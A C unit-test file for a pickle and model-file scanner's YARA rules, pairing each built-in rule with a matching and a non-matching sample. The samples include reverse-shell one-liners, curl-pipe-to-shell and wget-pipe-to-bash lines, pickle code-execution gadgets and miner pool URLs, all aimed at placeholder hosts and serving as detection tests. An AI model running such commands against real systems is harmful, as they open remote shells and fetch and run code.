/* SPDX-License-Identifier: Apache-2.0 */
/* Copyright (c) 2026 The mscan authors */
/* YARA glue and the built-in rules: every shipped rule has a sample that matches and one that
 * must not; user rules, broken rules, --no-yara, findings' fields, and concurrent scans. */
#include "test.h"

#include <dirent.h>
#include <pthread.h>
#include <stdbool.h>
#include <unistd.h>

#include <yara.h>

#include "scanner/yara_private.h"

#define S(lit) lit, sizeof(lit) - 1

typedef struct sample {
	const char *rule;     /* identifier; the finding's id is MS-YARA-<rule> */
	const char *kind;
	const char *hit;
	size_t hitlen;
	const char *miss;     /* same kind; must not match this rule */
	size_t misslen;
} sample;

/* Inert payloads only: they name harmless commands and documentation-example secrets. */
static const sample samples[] = {
	{"embedded_elf", "member",
	 S("\x7f" "ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0\0\0\0\0\0\0\0\0"),
	 S("\x7f" "ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x99\x99\x3e\0\x01\0\0\0\0\0\0\0\0\0\0\0")},
	{"embedded_elf", "pickle",
	 S("\x80\x04" "B\x20\0\0\0\x7f" "ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3e\0\x01\0\0\0\0\0\0\0"),
	 S("\x80\x04" "B\x20\0\0\0\x7f" "ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3e\0\x00\0\0\0\0\0\0\0")},
	{"embedded_pe", "data",
	 S("MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0\xb8\0\0\0\0\0\0\0\x40\0\0\0\0\0\0\0"
	   "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x40\0\0\0PE\0\0\x4c\x01"),
	 S("MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0\xb8\0\0\0\0\0\0\0\x40\0\0\0\0\0\0\0"
	   "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x40\0\0\0NE\0\0\x4c\x01")},
	{"embedded_pe", "pickle",
	 S("\x80\x04" "B\x88\0\0\0" "MZ\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"
	   "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x80\0\0\0"
	   "\x0e\x1f\xba\x0e\0\xb4\x09\xcd!\xb8\x01L\xcd!This program cannot be run in DOS mode."
	   "\r\r\n$\0\0\0\0\0\0\0PE\0\0L\x01\0\0"),
	 S("\x80\x04\x8c\x26This program cannot be run in DOS mode.\x94")},
	{"embedded_macho", "member",
	 S("\xcf\xfa\xed\xfe\x0c\0\0\x01\0\0\0\0\x02\0\0\0\x10\0\0\0"),
	 S("\xcf\xfa\xed\xfe\x0c\0\0\x01\0\0\0\0\x01\0\0\0\x10\0\0\0")},
	{"embedded_shell_script", "member", S("#!/bin/sh\necho pwned\n"),
	 S("notes: run #!/bin/sh scripts with care\n")},
	{"embedded_shell_script", "pickle", S("\x80\x04\x8c\x19#!/usr/bin/env bash\necho pwned\x94."),
	 S("\x80\x04\x8c\x0b#!/bin/shell\x94.")},
	{"shell_command_line", "pickle", S("cposix\nsystem\n(V/bin/sh -c 'echo pwned'\ntR."),
	 S("\x80\x04\x8c\x16the shell is /bin/sh .\x94.")},
	{"shell_command_line", "pickle-strings", S("subprocess\nPopen\nbash -c 'echo pwned'\n"),
	 S("bash\nscripts\n-c\n")},
	{"download_and_execute", "pickle",
	 S("cos\nsystem\n(Vcurl -fsSL http://example.invalid/x.sh | sh\ntR."),
	 S("cos\nsystem\n(Vcurl -o x.sh http://example.invalid/x.sh\ntR.")},
	{"download_and_execute", "pickle-strings", S("wget -qO- http://example.invalid/i | bash\n"),
	 S("wget -q http://example.invalid/i\n")},
	{"powershell_encoded", "pickle-strings",
	 S("powershell.exe -NoProfile -enc ZQBjAGgAbwAgAHAAdwBuAGUAZAA=\n"),
	 S("powershell -Command Get-Date\n")},
	{"interpreter_inline_code", "pickle-strings", S("python3\n-c\nprint('pwned')\n"),
	 S("python3 train.py -c config.yaml\n")},
	{"netcat_shell", "pickle", S("(Vnc 192.0.2.1 4444 -e /bin/sh\ntR."),
	 S("(Vnc -z 192.0.2.1 80\ntR.")},
	{"netcat_shell", "pickle-strings",
	 S("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 1234 >/tmp/f\n"),
	 S("mkfifo /tmp/f\n")},
	{"reverse_shell_dev_tcp", "pickle-strings", S("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n"),
	 S("/dev/tty\nbash -l\n")},
	{"reverse_shell_python", "pickle-strings",
	 S("import socket,os;s=socket.socket();s.connect((\"192.0.2.1\",4444));os.dup2(s.fileno(),0)\n"),
	 S("import socket;s=socket.socket();s.connect((host,port))\n")},
	{"pty_spawn", "pickle-strings", S("import pty;pty.spawn('/bin/sh')\n"),
	 S("pty.spawn(argv)\n")},
	{"base64_encoded_code", "pickle",
	 /* base64 of "import os;os.system('echo pwned')" */
	 S("\x80\x04\x8c\x2c" "aW1wb3J0IG9zO29zLnN5c3RlbSgnZWNobyBwd25lZCcp\x94."),
	 /* base64 of "hello world, nothing to see here" */
	 S("\x80\x04\x8c\x2c" "aGVsbG8gd29ybGQsIG5vdGhpbmcgdG8gc2VlIGhlcmU=\x94.")},
	{"hex_encoded_code", "pickle-strings",
	 S("696d706f7274206f733b6f732e73797374656d28276563686f2070776e65642729\n"),
	 S("68656c6c6f20776f726c64\n")},
	{"pickle_exec_decoded_payload", "pickle",
	 S("\x80\x02" "c__builtin__\nexec\n(czlib\ndecompress\n(C\x03xyztRtR."),
	 S("\x80\x02" "c__builtin__\nexec\n(Vprint(1)\ntR.")},
	{"pickle_exec_decoded_payload", "pickle",
	 S("\x80\x04\x8c\x08" "builtins\x94\x8c\x04" "exec\x94\x93\x94\x8c\x06" "base64\x94\x8c\x09"
	   "b64decode\x94\x93\x94."),
	 S("\x80\x04\x8c\x06" "base64\x94\x8c\x09" "b64decode\x94\x93\x94.")},
	{"pickle_exec_decoded_payload", "pickle",
	 S("\x80\x02" "cbuiltins\neval\n(cmarshal\nloads\n(C\x03xyztRtR."),
	 S("\x80\x02" "cbuiltin\neval\n(cmarshal\nloads\n(C\x03xyztRtR.")},
	{"embedded_elf", "data", S("\x7f" "ELF\x01\x01\x01\0\0\0\0\0\0\0\0\0\x01\0\x03\0\x01\0\0\0"),
	 S("xx\x7f" "ELF\x01\x01\x01\0\0\0\0\0\0\0\0\0\x01\0\x03\0\x01\0\0\0")},
	/* inside a pickle the header may be anywhere, with its e_type and e_version */
	{"embedded_elf", "pickle", S("xx\x7f" "ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3e\0\x01\0\0\0"),
	 S("xx\x7f" "ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3e\0\x02\0\0\0")},
	{"embedded_macho", "member", S("\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0"),
	 S("x\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0")},
	{"embedded_macho", "pickle-strings", S("x\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0"),
	 S("x\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x03\0\0\0")},
	{"embedded_shell_script", "member", S("#!/bin/sh\necho hi\n"), S(" #!/bin/sh\necho hi\n")},
	{"embedded_shell_script", "pickle-strings", S("x\n#!/usr/bin/env python3\n"), S("x\n#!/usr/bin/envy\n")},
	{"crypto_miner", "pickle-strings", S("stratum+tcp://pool.example.invalid:3333\n"),
	 S("stratum of layers\n")},
	{"crypto_miner", "member", S("./xmrig --donate-level 1 -o pool\n"),
	 S("xmrigger\n")},
	{"url_in_pickle", "pickle", S("\x80\x04\x8c\x1dhttp://example.invalid/x.sh\x94."),
	 S("\x80\x04\x8c\x0ehttp-header:x\x94.")},
	{"ipv4_in_pickle", "pickle", S("\x80\x04\x8c\x09" "192.0.2.1\x94M\\\x11\x86\x94."),
	 S("\x80\x04\x8c\x05" "1.2.3\x94.")},
	{"ipv4_in_pickle", "pickle-strings", S("connect\n192.0.2.1:4444\n"), S("version\n1.2.3\n")},
	/* a whole constant: the first one too, never the tail of a longer one */
	{"ipv4_in_pickle", "pickle-strings", S("192.0.2.1\n"), S("v192.0.2.1\n")},
	{"ipv4_in_pickle", "pickle-strings", S("0.weight\n10.0.0.1\n"), S("0.weight\n1000.0.0.1\n")},
	/* the atom is digit-dot-digit: one- and three-digit octets on each side of it, a port */
	{"ipv4_in_pickle", "pickle-strings", S("w\n1.22.3.255:8080\n"), S("w\n1.22.3.255.4\n")},
	{"ipv4_in_pickle", "pickle-strings", S("255.1.0.99\n"), S("255.1.0.\n")},
	{"ipv4_in_pickle", "pickle-strings", S("a.0.b\n123.45.6.7\n"), S("a.0.b\n123.45.6.7x\n")},
	{"pickle_injected_before_proto", "pickle",
	 S("c__builtin__\nexec\n(Vprint('pwned')\ntR\x80\x04\x95\x05\0\0\0\0\0\0\0}\x94."),
	 S("\x80\x04\x95\x05\0\0\0\0\0\0\0c__builtin__\nset\n(tR.")},
	{"pickle_poc_markers", "pickle-strings",
	 S("echo 'Now I can run malicious code! Never trust a pickle.'\n"), S("trust the pickle jar\n")},
	{"pickle_scanner_bypass_gadgets", "pickle", S("\x80\x02" "cpkgutil\nresolve_name\n(Vos:system\ntR."),
	 S("\x80\x02" "cpkgutil\nwalk_packages\n.")},
	{"pickle_scanner_bypass_gadgets", "pickle",
	 S("\x80\x04\x8c\x03pip\x94\x8c\x04main\x94\x93\x94."), S("\x80\x04\x8c\x03pip\x94.")},
	{"aws_access_key", "metadata", S("{\"key\": \"AKIAIOSFODNN7EXAMPLE\"}"),
	 S("{\"key\": \"AKIAIOSFODNN7\"}")},
	{"github_token", "pickle-strings", S("token=ghp_0123456789abcdefghijABCDEFGHIJ012345\n"),
	 S("ghp_short\n")},
	{"github_token", "pickle-strings", S("gho_0123456789abcdefghijABCDEFGHIJ012345\n"),
	 S("ghx_0123456789abcdefghijABCDEFGHIJ012345\n")},
	{"private_key_pem", "member", S("-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn\n"),
	 S("-----BEGIN PUBLIC KEY-----\nMIIB\n")},
	{"slack_token", "pickle-strings", S("xoxb-123456789012-abcdefghijkl\n"), S("xoxb-\n")},
	{"gcp_service_account_key", "member",
	 S("{\"type\": \"service_account\", \"project_id\": \"p\", \"private_key_id\": \"0\", "
	   "\"private_key\": \"x\"}"),
	 S("{\"type\": \"authorized_user\", \"client_id\": \"0\"}")},
	{"huggingface_token", "pickle",
	 S("\x80\x04\x8c\x25hf_abcdefghijklmnopqrstuvwxyzABCDEFGH\x94."), S("\x80\x04\x8c\x06hf_abc\x94.")},
};
#define NSAMPLES (sizeof samples / sizeof samples[0])

static ms_ctx *ctx_new(int no_yara)
{
	ms_scan_opts o = {.no_yara = no_yara};
	ms_ctx *ctx = NULL;
	assert_int_equal(ms_ctx_new(&o, &ctx), MS_OK);
	return ctx;
}

static ms_result *yscan(const ms_ctx *ctx, const char *kind, const char *buf, size_t len)
{
	ms_result *r = NULL;
	assert_int_equal(ms_rules_scan_buffer(ctx, "t", (const uint8_t *)buf, len, kind, &r), MS_OK);
	assert_int_equal(ms_result_error(r)->code, MS_OK);
	return r;
}

static void check(const ms_ctx *ctx, const char *kind, const char *buf, size_t len,
                  const char *rule, bool want, size_t i)
{
	char id[128];
	snprintf(id, sizeof id, "MS-YARA-%s", rule);
	ms_result *r = yscan(ctx, kind, buf, len);
	if (t_has_rule(r, id) != want) {
		fprintf(stderr, "sample %zu (%s, kind %s): %s expected %s\n", i, rule, kind, id,
		        want ? "to match" : "not to match");
		t_dump(r);
		fail();
	}
	ms_result_free(r);
}

static void test_samples(void **state)
{
	(void)state;
	ms_ctx *ctx = ctx_new(0);
	for (size_t i = 0; i < NSAMPLES; i++) {
		const sample *s = &samples[i];
		check(ctx, s->kind, s->hit, s->hitlen, s->rule, true, i);
		check(ctx, s->kind, s->miss, s->misslen, s->rule, false, i);
	}
	ms_ctx_free(ctx);
}

/* Rules that must not fire on "data" (unrecognised members such as a README). */
static void test_kind_gates(void **state)
{
	(void)state;
	ms_ctx *ctx = ctx_new(0);
	static const char readme[] = "Install: curl -fsSL https://example.invalid/i.sh | sh\n"
	                             "Then run python -c 'import m' or bash -c 'make'.\n";
	ms_result *r = yscan(ctx, "data", readme, sizeof readme - 1);
	if (ms_result_count(r) != 0) {
		t_dump(r);
		fail();
	}
	ms_result_free(r);
	/* An ELF header not at offset 0 of a member is not an executable member. */
	static const char mid[] = "xxxx\x7f" "ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0";
	r = yscan(ctx, "member", mid, sizeof mid - 1);
	assert_false(t_has_rule(r, "MS-YARA-embedded_elf"));
	ms_result_free(r);
	ms_ctx_free(ctx);
}

typedef struct cover {
	size_t n, missing;
	bool bad_meta;
} cover;

static int cover_cb(const ms_rule_info *ri, void *user)
{
	cover *c = user;
	if (!ri->builtin) return 0;
	c->n++;
	bool found = false;
	for (size_t i = 0; i < NSAMPLES; i++) found |= strcmp(samples[i].rule, ri->identifier) == 0;
	if (!found) {
		fprintf(stderr, "built-in rule %s has no test sample\n", ri->identifier);
		c->missing++;
	}
	if (!ri->meta_id || strcmp(ri->meta_id, ri->id) != 0 || !ri->description[0] ||
	    strncmp(ri->reference, "https://", 8) != 0) {
		fprintf(stderr, "built-in rule %s: id must be %s, description and https reference set\n",
		        ri->identifier, ri->id);
		c->bad_meta = true;
	}
	return 0;
}

/* Every shipped rule has samples and complete metadata. */
static void test_every_rule_covered(void **state)
{
	(void)state;
	ms_ctx *ctx = ctx_new(0);
	const ms_yara *y = ctx->yara;
	cover c = {0};
	ms_yara_rules_foreach(y, cover_cb, &c);
	assert_true(c.n >= 20);
	assert_int_equal(c.missing, 0);
	assert_false(c.bad_meta);
	ms_ctx_free(ctx);
}

/* Offset of the first matching string, severity from metadata, secrets not quoted. */
static void test_finding_fields(void **state)
{
	(void)state;
	ms_ctx *ctx = ctx_new(0);
	static const char buf[] = "0123456789bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n";
	ms_result *r = yscan(ctx, "pickle-strings", buf, sizeof buf - 1);
	assert_int_equal(ms_result_count(r), 1);
	const ms_finding *f = ms_result_get(r, 0);
	assert_string_equal(f->rule_id, "MS-YARA-reverse_shell_dev_tcp");
	assert_int_equal(f->severity, MS_SEV_CRITICAL);
	assert_int_equal(f->offset, 10);
	assert_non_null(strstr(f->message, "reverse shell"));
	ms_result_free(r);

	static const char key[] = "AKIAIOSFODNN7EXAMPLE";
	r = yscan(ctx, "metadata", key, sizeof key - 1);
	assert_true(t_has_rule(r, "MS-YARA-aws_access_key"));
	assert_null(strstr(ms_result_get(r, 0)->message, "IOSFODNN"));
	assert_int_equal(ms_result_get(r, 0)->severity, MS_SEV_MEDIUM);
	ms_result_free(r);
	ms_ctx_free(ctx);
}

/* The pickle path runs rules over the raw stream whatever the machine's verdict. */
static void test_pickle_stream_path(void **state)
{
	(void)state;
	static const char p[] = "\x80\x04\x8c\x29" "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\x94.";
	ms_result *r = T_SCAN_LIT(p);
	assert_true(t_has_rule(r, "MS-YARA-reverse_shell_dev_tcp"));
	ms_result_free(r);
}

static char *write_tmp(const char *name, const char *text)
{
	static char dir[64];
	if (!dir[0]) {
		snprintf(dir, sizeof dir, "/tmp/mscan-yara-XXXXXX");
		assert_non_null(mkdtemp(dir));
	}
	size_t n = strlen(dir) + strlen(name) + 2;
	char *p = malloc(n);
	snprintf(p, n, "%s/%s", dir, name);
	FILE *f = fopen(p, "w");
	assert_non_null(f);
	fputs(text, f);
	fclose(f);
	return p;
}

static void test_user_rules(void **state)
{
	(void)state;
	ms_ctx *ctx = ctx_new(0);
	char *good = write_tmp("u.yar", "rule marker_x { meta: severity = \"critical\" "
	                                "description = \"user marker\" strings: $a = \"MARKER-X-42\" "
	                                "condition: $a }\n");
	char *broken = write_tmp("b.yar", "rule ok_one { condition: true }\n\nrule broken {\n"
	                                  "  strings: $a = \"x\"\n  condition: $b\n}\n");
	char *badsev = write_tmp("s.yar", "rule sev { meta: severity = \"urgent\" condition: false }\n");
	assert_int_equal(ms_ctx_add_rules(ctx, good), MS_OK);
	static const char buf[] = "...MARKER-X-42...";
	ms_result *r = yscan(ctx, "data", buf, sizeof buf - 1);
	assert_true(t_has_rule(r, "MS-YARA-marker_x"));
	assert_int_equal(ms_result_get(r, 0)->severity, MS_SEV_CRITICAL);
	assert_int_equal(ms_result_get(r, 0)->offset, 3);
	ms_result_free(r);

	/* A broken file is an error naming file and line; the rules already loaded stay. */
	assert_int_equal(ms_ctx_add_rules(ctx, broken), MS_ERR_YARA);
	char want[256];
	snprintf(want, sizeof want, "%s:6: undefined string", broken);
	assert_non_null(strstr(ms_ctx_error(ctx)->message, want));
	assert_int_equal(ms_ctx_add_rules(ctx, badsev), MS_ERR_YARA);
	assert_non_null(strstr(ms_ctx_error(ctx)->message, "urgent"));
	r = yscan(ctx, "data", buf, sizeof buf - 1);
	assert_true(t_has_rule(r, "MS-YARA-marker_x"));
	ms_result_free(r);
	assert_int_equal(ms_ctx_add_rules(ctx, "/nonexistent/rules.yar"), MS_ERR_IO);
	ms_ctx_free(ctx);

	/* A folder: its broken file fails the whole folder. */
	ctx = ctx_new(0);
	char *dir = strdup(good);
	*strrchr(dir, '/') = 0;
	assert_int_equal(ms_ctx_add_rules(ctx, dir), MS_ERR_YARA);
	unlink(broken);
	unlink(badsev);
	assert_int_equal(ms_ctx_add_rules(ctx, dir), MS_OK);
	r = yscan(ctx, "data", buf, sizeof buf - 1);
	assert_true(t_has_rule(r, "MS-YARA-marker_x"));
	ms_result_free(r);
	ms_ctx_free(ctx);
	unlink(good);
	rmdir(dir);
	free(dir);
	free(good);
	free(broken);
	free(badsev);
}

static void test_no_yara(void **state)
{
	(void)state;
	ms_ctx *ctx = ctx_new(1);
	assert_int_equal(ms_ctx_add_rules(ctx, "/dev/null"), MS_ERR_ARG);
	static const char p[] = "\x80\x04\x8c\x29" "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\x94.";
	ms_result *r = NULL;
	assert_int_equal(ms_scan_buffer(ctx, "t", (const uint8_t *)p, sizeof p - 1, &r), MS_OK);
	assert_false(t_has_rule(r, "MS-YARA-reverse_shell_dev_tcp"));
	ms_result_free(r);
	ms_ctx_free(ctx);
}

typedef struct reuse_pair {
	const ms_ctx *with, *without;
	const char *buf;
	size_t len;
	int bad;
} reuse_pair;

/* Scans with both contexts in turn: the marker rule only in `with`. */
static void *reuse_alternate(void *arg)
{
	reuse_pair *p = arg;
	for (int round = 0; round < 3; round++)
		for (int k = 0; k < 2; k++) {
			ms_result *r = NULL;
			if (ms_rules_scan_buffer(k ? p->without : p->with, "t", (const uint8_t *)p->buf,
			                        p->len, "data", &r) != MS_OK)
				p->bad++;
			if (t_has_rule(r, "MS-YARA-marker_r") != (k == 0)) p->bad++;
			ms_result_free(r);
		}
	return NULL;
}

/* Each thread keeps the scanner it used last (yara_glue.c): one made for other rules, for
 * rules since recompiled or for a context since freed must never be taken back; threads that
 * end and contexts taken in turn give theirs back (more threads than a pool keeps, here). */
static void test_scanner_reuse(void **state)
{
	(void)state;
	char dir[] = "/tmp/mscan-reuse-XXXXXX", rule[sizeof dir + 16];
	assert_non_null(mkdtemp(dir));
	snprintf(rule, sizeof rule, "%s/r.yar", dir);
	FILE *f = fopen(rule, "w");
	assert_non_null(f);
	fputs("rule marker_r { meta: severity = \"high\" strings: $a = \"MARKER-R-7\" "
	      "condition: $a }\n", f);
	assert_int_equal(fclose(f), 0);
	static const char buf[] = "..MARKER-R-7..";
	ms_ctx *with = ctx_new(0), *without = ctx_new(0);
	assert_int_equal(ms_ctx_add_rules(with, rule), MS_OK);
	reuse_pair pair = {with, without, buf, sizeof buf - 1, 0};
	reuse_alternate(&pair);
	for (int i = 0; i < 80; i++) {
		pthread_t t;
		assert_int_equal(pthread_create(&t, NULL, reuse_alternate, &pair), 0);
		pthread_join(t, NULL);
	}
	assert_int_equal(pair.bad, 0);
	/* Rules added after scans: the scanner this thread kept belongs to the old rules. */
	assert_int_equal(ms_ctx_add_rules(without, rule), MS_OK);
	ms_result *r = yscan(without, "data", buf, sizeof buf - 1);
	assert_true(t_has_rule(r, "MS-YARA-marker_r"));
	ms_result_free(r);
	/* A context freed while this thread keeps its scanner; the next may reuse its memory. */
	ms_ctx_free(with);
	ms_ctx_free(without);
	ms_ctx *fresh = ctx_new(0);
	r = yscan(fresh, "data", buf, sizeof buf - 1);
	assert_false(t_has_rule(r, "MS-YARA-marker_r"));
	ms_result_free(r);
	ms_ctx_free(fresh);
	unlink(rule);
	rmdir(dir);
}

typedef struct par {
	const ms_ctx *ctx;
	int bad;
} par;

static void *par_worker(void *arg)
{
	par *p = arg;
	for (int it = 0; it < 200; it++) {
		const sample *s = &samples[(size_t)it % NSAMPLES];
		ms_result *r = NULL;
		if (ms_rules_scan_buffer(p->ctx, "t", (const uint8_t *)s->hit, s->hitlen, s->kind, &r) !=
		    MS_OK)
			p->bad++;
		char id[128];
		snprintf(id, sizeof id, "MS-YARA-%s", s->rule);
		if (!t_has_rule(r, id)) p->bad++;
		ms_result_free(r);
	}
	return NULL;
}

/* Many threads share one compiled rule set: more than YR_MAX_THREADS (32), and more than the
 * 64 scanners a rule set keeps (the rest are made and destroyed per scan). */
static void test_concurrent(void **state)
{
	(void)state;
	enum { NT = 72 };
	ms_ctx *ctx = ctx_new(0);
	pthread_t t[NT];
	par p[NT];
	for (int i = 0; i < NT; i++) {
		p[i] = (par){ctx, 0};
		assert_int_equal(pthread_create(&t[i], NULL, par_worker, &p[i]), 0);
	}
	int bad = 0;
	for (int i = 0; i < NT; i++) {
		pthread_join(t[i], NULL);
		bad += p[i].bad;
	}
	assert_int_equal(bad, 0);
	ms_ctx_free(ctx);
}

/* libyara 4.2's own scan loop (_yr_scanner_scan_mem_block), without verifying: true when it
 * reaches a state with matches, i.e. when its scan would verify some string. */
static bool ac_meets_atom(const YR_RULES *rules, const uint8_t *d, size_t n)
{
	const YR_AC_TRANSITION *tt = rules->ac_transition_table;
	const uint32_t *mt = rules->ac_match_table;
	uint32_t state = YR_AC_ROOT_STATE;
	for (size_t i = 0; i < n; i++) {
		if (mt[state]) return true;
		uint16_t index = (uint16_t)(d[i] + 1);
		YR_AC_TRANSITION t = tt[state + index];
		while (YR_AC_INVALID_TRANSITION(t, index)) {
			if (state == YR_AC_ROOT_STATE) {
				t = 0;
				break;
			}
			state = YR_AC_NEXT_STATE(tt[state]);
			t = tt[state + index];
		}
		state = YR_AC_NEXT_STATE(t);
	}
	return mt[state] != 0;
}

static void gate_check(const ms_yara *y, const uint8_t *d, size_t n, size_t *passed)
{
	bool walk = ac_meets_atom(ms_yara_yr_rules(y), d, n);
	if (ms_yara_gate_passes(y, d, n) != walk)
		fail_msg("gate and automaton disagree on %zu bytes (automaton: %s)", n,
		         walk ? "atom" : "none");
	*passed += walk;
}

/* The gate skips exactly the bytes in which libyara's automaton meets no atom: every window
 * of up to 12 bytes of every rule's samples (each atom alone, and cut at either end), every
 * corpus file and its first 64 prefixes, and 300 000 splices of corpus bytes with random
 * bytes (atoms torn and rejoined). */
static void test_gate_matches_automaton(void **state)
{
	(void)state;
	ms_ctx *ctx = ctx_new(0);
	const ms_yara *y = ctx->yara;
	assert_true(ms_yara_gate_passes(y, (const uint8_t *)"", 0) == false);
	size_t passed = 0, checked = 0;
	for (size_t k = 0; k < sizeof samples / sizeof samples[0]; k++) {
		const uint8_t *d[2] = {(const uint8_t *)samples[k].hit, (const uint8_t *)samples[k].miss};
		size_t len[2] = {samples[k].hitlen, samples[k].misslen};
		for (int h = 0; h < 2; h++)
			for (size_t a = 0; a < len[h]; a++)
				for (size_t b = a + 1; b <= len[h] && b - a <= 12; b++, checked++)
					gate_check(y, d[h] + a, b - a, &passed);
	}
	static const char *const dirs[] = {"corpus/benign", "corpus/malicious", "corpus/malformed"};
	uint8_t *pool = NULL;
	size_t npool = 0;
	for (size_t k = 0; k < sizeof dirs / sizeof dirs[0]; k++) {
		DIR *dh = opendir(dirs[k]);
		assert_non_null(dh);
		for (struct dirent *e; (e = readdir(dh));) {
			if (e->d_name[0] == '.') continue;
			char path[512];
			snprintf(path, sizeof path, "%s/%s", dirs[k], e->d_name);
			FILE *f = fopen(path, "rb");
			if (!f) continue;
			uint8_t buf[1 << 16];
			size_t n = fread(buf, 1, sizeof buf, f);
			fclose(f);
			gate_check(y, buf, n, &passed);
			for (size_t end = 1; end <= n && end <= 64; end++) gate_check(y, buf, end, &passed);
			checked += 1 + (n < 64 ? n : 64);
			uint8_t *p = realloc(pool, npool + n);
			assert_non_null(p);
			pool = p;
			memcpy(pool + npool, buf, n);
			npool += n;
		}
		closedir(dh);
	}
	assert_true(npool > 100000);
	uint64_t x = 88172645463325252ull;
	uint8_t buf[96];
	for (int i = 0; i < 300000; i++) {
		size_t n = 0, want = 1 + (size_t)(i % 96);
		while (n < want) {
			x ^= x << 13, x ^= x >> 7, x ^= x << 17;
			size_t take = 1 + (size_t)(x % 6);
			if (take > want - n) take = want - n;
			if (x >> 60 < 3) /* random bytes now and then */
				for (size_t j = 0; j < take; j++) buf[n + j] = (uint8_t)(x >> (8 * (j % 7)));
			else
				memcpy(buf + n, pool + (x >> 20) % (npool - take), take);
			n += take;
		}
		gate_check(y, buf, n, &passed);
		checked++;
	}
	/* both answers are common, or the comparison proves little */
	assert_true(passed > checked / 20 && passed < checked - checked / 20);
	free(pool);
	ms_ctx_free(ctx);
}

/* Contexts come and go; libyara is initialised once and finalised with the last. */
static void test_init_refcount(void **state)
{
	(void)state;
	ms_ctx *a = ctx_new(0), *b = ctx_new(0);
	ms_ctx_free(a);
	static const char buf[] = "stratum+tcp://pool.example.invalid:3333";
	ms_result *r = yscan(b, "data", buf, sizeof buf - 1);
	assert_true(t_has_rule(r, "MS-YARA-crypto_miner"));
	ms_result_free(r);
	ms_ctx_free(b);
	a = ctx_new(0);
	r = yscan(a, "data", buf, sizeof buf - 1);
	assert_true(t_has_rule(r, "MS-YARA-crypto_miner"));
	ms_result_free(r);
	ms_ctx_free(a);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_samples),
		cmocka_unit_test(test_kind_gates),
		cmocka_unit_test(test_every_rule_covered),
		cmocka_unit_test(test_finding_fields),
		cmocka_unit_test(test_pickle_stream_path),
		cmocka_unit_test(test_user_rules),
		cmocka_unit_test(test_no_yara),
		cmocka_unit_test(test_scanner_reuse),
		cmocka_unit_test(test_concurrent),
		cmocka_unit_test(test_init_refcount),
		cmocka_unit_test(test_gate_matches_automaton),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
